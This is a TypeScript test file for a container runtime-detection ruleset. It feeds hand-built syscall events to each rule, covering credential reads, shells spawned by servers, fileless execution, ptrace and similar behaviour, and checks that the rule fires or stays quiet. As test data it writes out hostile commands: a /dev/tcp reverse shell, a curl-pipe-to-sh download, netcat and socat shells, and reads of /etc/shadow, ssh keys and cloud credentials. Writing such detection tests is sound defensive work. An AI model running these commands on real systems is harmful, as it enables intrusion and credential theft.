// rules/default.yaml: loads without errors or warnings, each rule fires on a
// hand-built attack event and stays quiet on ordinary workload events.
import { readFileSync } from 'node:fs';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import type { ProcessInfo, SyscallEvent } from '../../src/events/model.js';
import { defaultRulesPath, loadRuleFiles } from '../../src/rules/index.js';
import { CONTAINER, connect, event, execve, fileFd, openat, O_CREAT, O_TRUNC, O_WRONLY, proc, procChain, tcpFd } from './events.js';
import { parseWithPositions } from '../../src/rules/yaml-positions.js';

const path = new URL('../../../rules/default.yaml', import.meta.url);
const content = readFileSync(path, 'utf8');
const { ruleset, results } = loadRuleFiles([{ name: 'default.yaml', content }], { ruleMatching: 'all', positions: parseWithPositions });
if (!ruleset) throw new Error(JSON.stringify(results));
const rs = ruleset;
const tested = new Set<string>();
const names = (e: SyscallEvent) => rs.evaluate(e).map((r) => r.name);

function fires(rule: string, ...events: SyscallEvent[]): void {
  assert.ok(rs.rules.some((r) => r.name === rule), `no rule ${rule}`);
  tested.add(rule);
  for (const e of events) assert.ok(names(e).includes(rule), `${rule} did not fire on ${e.type}`);
}
function quiet(rule: string, ...events: SyscallEvent[]): void {
  for (const e of events) assert.not.ok(names(e).includes(rule), `${rule} fired on ${e.type}`);
}

test('loads with no errors and no warnings; the CLI finds it', () => {
  assert.equal(results[0]!.errors, []);
  assert.equal(results[0]!.warnings, []);
  assert.ok(rs.rules.length >= 15);
  assert.ok(defaultRulesPath()?.endsWith('rules/default.yaml'));
  const types = rs.eventTypes();
  assert.ok(types !== 'all', 'every default rule is restricted by evt.type');
});

test('credential file read', () => {
  const r = 'Fargate credential file read';
  fires(r, openat(procChain('python3', ['node']), '/etc/shadow'), openat(proc({ comm: 'cat' }), '/etc/sudoers.d/app'));
  quiet(r, openat(proc({ comm: 'su' }), '/etc/shadow'), openat(proc({ comm: 'cat' }), '/etc/passwd'), openat(proc({ comm: 'cat' }), '/etc/shadow', 0, -13));
});

test('private key or cloud credential read', () => {
  const r = 'Fargate private key or cloud credential read';
  fires(r, openat(proc({ comm: 'python3' }), '/root/.ssh/id_rsa'), openat(proc({ comm: 'node' }), '/home/app/.aws/credentials'), openat(proc({ comm: 'sh' }), '/app/.netrc'));
  quiet(r, openat(proc({ comm: 'ssh' }), '/root/.ssh/id_rsa'), openat(proc({ comm: 'node' }), '/app/config.json'), openat(proc({ comm: 'node' }), '/app/credentials'));
});

test('shell started by a server process', () => {
  const r = 'Fargate shell started by a server process';
  const sh = (parent: ProcessInfo, ...args: string[]) => execve(proc({ comm: 'sh', args, parent }));
  const node = proc({ comm: 'node', args: ['server.js'] });
  const java = proc({ comm: 'java', args: ['-jar', 'app.jar'] });
  const npm = proc({ comm: 'node', args: ['/usr/local/bin/npm', 'start'] });
  fires(
    r,
    sh(proc({ comm: 'nginx' }), '-c', 'id'), // a web server never needs a shell
    execve(procChain('bash', ['java'])), // reads commands from its stdin: a pipe to a socket
    sh(proc({ comm: 'python3' }), '-i'),
    execve(proc({ comm: 'bash', args: ['-li'], parent: java })),
    sh(node, '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'),
    sh(proc({ comm: 'php-fpm' }), '-c', 'curl -fsS http://10.0.0.1/x | sh'),
    execve(proc({ comm: 'bash', args: ['-i'], parent: proc({ comm: 'sh', args: ['-c', 'bash -i'], parent: java }) })),
  );
  quiet(
    r,
    execve(procChain('sh', ['tini'])),
    execve(procChain('ls', ['node'])),
    execve(procChain('sh', ['node']), -2),
    sh(npm, '-c', 'node server.js'), // npm start
    sh(java, '-c', 'uname -s; df -k / | tail -n 1'), // ProcessBuilder
    sh(proc({ comm: 'python3' }), '-c', 'ls /data | sha256sum'), // subprocess(shell=True)
    sh(node, '/app/scripts/migrate.sh'),
    execve(proc({ comm: 'bash', args: ['--version'], parent: node })),
    sh(node, '-o', 'pipefail', '-c', 'ls | wc -l'),
    execve(proc({ comm: 'bash', args: ['-lc', 'env'], parent: java })),
    sh(node, '-c', 'grep -i ready /tmp/status'),
    sh(proc({ comm: 'apache2' }), '-c', '/usr/bin/rotatelogs /var/log/apache2/access.%Y%m%d 86400'), // piped logs
    execve(proc({ comm: 'sh', args: ['-i'], parent: proc({ comm: 'sh', args: ['-c', 'sh -i'], parent: proc({ comm: 'tini' }) }) })),
  );
});

test('credential search', () => {
  const r = 'Fargate credential search';
  const grep = (parent?: ProcessInfo) => execve(proc({ comm: 'grep', args: ['-r', 'password', '/app/config'], parent }));
  const entrypoint = proc({ comm: 'docker-entrypoi', exepath: '/usr/bin/dash', args: ['/docker-entrypoint.sh', 'node', 'server.js'] });
  const shc = (parent?: ProcessInfo) => proc({ comm: 'sh', exepath: '/usr/bin/dash', args: ['-c', 'cd /app && grep -r password .'], parent });
  fires(
    r,
    execve(proc({ comm: 'grep', args: ['-ri', 'password', '/app'] })), // as the container's command
    execve(proc({ comm: 'find', args: ['/', '-name', 'id_rsa'] })),
    grep(proc({ comm: 'sh', args: ['-i'] })), // typed into an interactive shell
    grep(proc({ comm: 'bash' })), // a shell reading its stdin
    grep(proc({ comm: 'node', args: ['server.js'] })), // run by the server itself
    grep(shc(proc({ comm: 'java', args: ['-jar', 'app.jar'] }))), // by a shell the server started
    grep(proc({ comm: 'sh', args: ['/tmp/x.sh'], parent: shc(proc({ comm: 'node', args: ['server.js'] })) })), // by a script it started
    // a busybox applet run by busybox sh (through /proc/self/exe): proc.name is "exe"
    execve(proc({ comm: 'exe', exe: 'grep', exepath: '/bin/busybox', args: ['-ri', 'password', '/'], parent: proc({ comm: 'sh', args: ['-i'] }) })),
  );
  quiet(
    r,
    execve(proc({ comm: 'grep', args: ['-q', 'ready', '/tmp/status'] })),
    execve(proc({ comm: 'cat', args: ['password.txt'] })),
    grep(entrypoint), // a configuration check in the entrypoint script
    grep(proc({ comm: 'sh', args: ['/app/check-config.sh'] })),
    grep(shc(proc({ comm: 'tini', args: ['--', '/docker-entrypoint.sh'] }))),
    grep(shc(proc({ comm: 'node', args: ['/usr/local/bin/npm', 'run', 'check'] }))), // an npm script
    grep(shc(proc({ comm: 'node', args: ['/opt/yarn-v1.22.19/bin/yarn.js', 'check'] }))),
    grep(proc({ ...entrypoint, parent: shc(proc({ comm: 'node', args: ['/usr/bin/npm', 'start'] })) })), // npm start runs the entrypoint
  );
});

test('link over a sensitive file', () => {
  const r = 'Fargate link over a sensitive file';
  const p = proc({ comm: 'ln' });
  fires(r, event('symlinkat', p, { args: { res: 0, target: '/etc/shadow', linkdirfd: -100, linkpath: 'x' } }), event('link', p, { args: { res: 0, oldpath: '/etc/sudoers', newpath: '/tmp/s' } }));
  quiet(r, event('symlink', p, { args: { res: 0, target: '/app/current', linkpath: '/app/live' } }), event('linkat', p, { args: { res: 0, oldpath: '/tmp/a', newpath: '/tmp/b' } }));
});

test('packet socket', () => {
  const r = 'Fargate packet socket';
  const sock = (domain: number) => event('socket', proc({ comm: 'tcpdump' }), { res: 3, args: { fd: 3, domain, type: 3, proto: 0 } });
  fires(r, sock(17));
  quiet(r, sock(2), sock(1));
});

test('fileless execution', () => {
  const r = 'Fargate fileless execution';
  fires(r, execve(proc({ comm: '3', exepath: 'memfd:payload', exeFromMemfd: true })));
  quiet(r, execve(proc({ comm: 'node' })));
});

test('execution from /dev/shm', () => {
  const r = 'Fargate execution from /dev/shm';
  fires(r, execve(proc({ comm: 'x', exe: '/dev/shm/x', exepath: '/dev/shm/x' })), execve(proc({ comm: 'x', exe: './x', cwd: '/dev/shm/a' })));
  quiet(r, execve(proc({ comm: 'x', exe: './x', cwd: '/app' })));
});

test('new binary executed', () => {
  const r = 'Fargate new binary executed';
  fires(r, execve(proc({ comm: 'xmrig', exeUpperLayer: true })));
  quiet(r, execve(proc({ comm: 'node' })));
});

test('ptrace attach', () => {
  const r = 'Fargate ptrace attach';
  const pt = (comm: string, request: number, res = 0) => event('ptrace', proc({ comm }), { res, args: { res, request, pid: 7 } });
  fires(r, pt('inject', 16), pt('inject', 5));
  quiet(r, pt('gdb', 16), pt('py-spy', 16), pt('inject', 16, -1), pt('inject', 2));
});

test('log or history cleared', () => {
  const r = 'Fargate log or history cleared';
  const p = proc({ comm: 'sh' });
  fires(r, openat(p, '/var/log/app.log', O_WRONLY | O_TRUNC), openat(p, '/root/.bash_history', O_WRONLY | O_TRUNC | O_CREAT));
  quiet(r, openat(p, '/var/log/app.log', O_WRONLY | 0o2000), openat(p, '/tmp/out', O_WRONLY | O_TRUNC));
});

test('stdio redirected to a network socket', () => {
  const r = 'Fargate stdio redirected to a network socket';
  const p = proc({ comm: 'bash' });
  const dup2 = (newfd: number, sock: boolean) =>
    event('dup2', p, { res: newfd, args: { res: newfd, oldfd: 3, newfd }, fd: sock ? tcpFd(3, '172.17.0.2', 40000, '1.2.3.4', 4444) : fileFd('/tmp/x') });
  const accepted = (comm: string) =>
    event('dup2', proc({ comm }), { res: 0, args: { res: 0, oldfd: 4, newfd: 0 }, fd: tcpFd(4, '10.0.0.9', 51000, '172.17.0.2', 8080, false) });
  fires(r, dup2(0, true), dup2(2, true));
  quiet(r, dup2(1, false), dup2(7, true), accepted('python3'));
});

test('stdio on an accepted connection', () => {
  const r = 'Fargate stdio on an accepted connection';
  const accepted = (who: string | ProcessInfo, newfd = 0) =>
    event('dup2', typeof who === 'string' ? proc({ comm: who }) : who, { res: newfd, args: { res: newfd, oldfd: 4, newfd }, fd: tcpFd(4, '10.0.0.9', 51000, '172.17.0.2', 8080, false) });
  fires(r, accepted('python3'), accepted('node', 2)); // a bind shell in an application runtime
  // inetd-style servers hand the connection to a handler on 0 and 1
  quiet(r, accepted('busybox'), accepted('httpd', 1), accepted('tcpsvd'), accepted('python3', 5));
  // busybox sh runs applets through /proc/self/exe: proc.name is "exe"
  quiet(r, accepted(proc({ comm: 'exe', exepath: '/usr/bin/busybox' })));
  fires(r, accepted('exe'));
});

test('netcat remote execution', () => {
  const r = 'Fargate netcat remote execution';
  fires(r, execve(proc({ comm: 'nc', args: ['-e', '/bin/sh', '1.2.3.4', '4444'] })), execve(proc({ comm: 'socat', args: ['tcp:1.2.3.4:4444', 'exec:/bin/sh'] })));
  const busybox = { exepath: '/usr/bin/busybox' };
  fires(
    r,
    execve(proc({ comm: 'busybox', ...busybox, exe: 'busybox', args: ['nc', '-l', '-p', '4444', '-e', '/bin/sh'] })),
    execve(proc({ comm: 'exe', ...busybox, exe: 'nc', args: ['-l', '-p', '4444', '-e', '/bin/sh'] })), // an applet run by busybox sh
  );
  quiet(r, execve(proc({ comm: 'nc', args: ['-z', 'db', '5432'] })), execve(proc({ comm: 'busybox', ...busybox, args: ['wget', '-e', 'robots=off', 'http://x/'] })));
});

test('cgroup release_agent write', () => {
  const r = 'Fargate cgroup release_agent write';
  fires(r, openat(proc({ comm: 'sh' }), '/sys/fs/cgroup/x/release_agent', O_WRONLY));
  quiet(r, openat(proc({ comm: 'sh' }), '/sys/fs/cgroup/x/release_agent'), openat(proc({ comm: 'sh' }), '/sys/fs/cgroup/x/notify_on_release', O_WRONLY));
});

test('kernel module load', () => {
  const r = 'Fargate kernel module load';
  fires(r, event('init_module', proc({ comm: 'insmod' }), { res: -1, args: { res: -1, length: 10, uargs: '' } }));
  quiet(r, event('delete_module', proc({ comm: 'rmmod' })));
});

test('write below binary directory', () => {
  const r = 'Fargate write below binary directory';
  fires(r, openat(proc({ comm: 'curl' }), '/usr/local/bin/kubectl', O_WRONLY | O_CREAT));
  quiet(r, openat(proc({ comm: 'node' }), '/usr/local/bin/node'), openat(proc({ comm: 'node' }), '/app/bin/x', O_WRONLY));
});

test('interactive session entered the container', () => {
  const r = 'Fargate interactive session entered the container';
  // The entered shell itself (its parent outside the namespace), and the first shell under the SSM agent.
  fires(r, execve(proc({ comm: 'sh', entered: true })), execve(procChain('bash', ['amazon-ssm-agent', 'ssm-session-worker'], { entered: true })));
  // A shell it starts, a program it runs, the workload's own shell, a failed exec.
  const entered = proc({ comm: 'sh', entered: true });
  quiet(r, execve(proc({ comm: 'bash', parent: entered, entered: true })), execve(proc({ comm: 'cat', parent: entered, entered: true })),
    execve(proc({ comm: 'sh' })), execve(proc({ comm: 'sh', entered: true }), -2));
});

test('an ordinary workload fires nothing', () => {
  const node = proc({ comm: 'node', exe: 'node', exepath: '/usr/local/bin/node', args: ['server.js'] });
  const benign: SyscallEvent[] = [
    execve(node),
    openat(node, '/app/server.js'),
    openat(node, '/etc/passwd'),
    openat(node, '/etc/hosts'),
    openat(node, '/etc/ssl/certs/ca-certificates.crt'),
    openat(node, '/tmp/upload-1', O_WRONLY | O_CREAT | O_TRUNC),
    openat(node, '/app/logs/out.log', O_WRONLY | O_CREAT | 0o2000),
    openat(node, '/nonexistent', 0, -2),
    connect(node, '10.0.1.5', 5432),
    connect(node, '52.94.1.1', 443),
    event('socket', node, { res: 20, args: { fd: 20, domain: 2, type: 1, proto: 6 } }),
    event('dup2', node, { res: 1, args: { res: 1, oldfd: 4, newfd: 1 }, fd: fileFd('/app/logs/out.log', 4) }),
    execve(procChain('npm', ['node'], { args: ['run', 'migrate'] })),
    execve(proc({ comm: 'python3', args: ['manage.py', 'runserver'], container: { ...CONTAINER, id: '0123456789ab' } })),
  ];
  for (const e of benign) assert.equal(names(e), [], `${e.type} ${e.fd?.name ?? e.proc.comm}`);
});

test('every default rule was exercised', () => {
  assert.equal(rs.rules.map((r) => r.name).filter((n) => !tested.has(n)), []);
});

test.run();
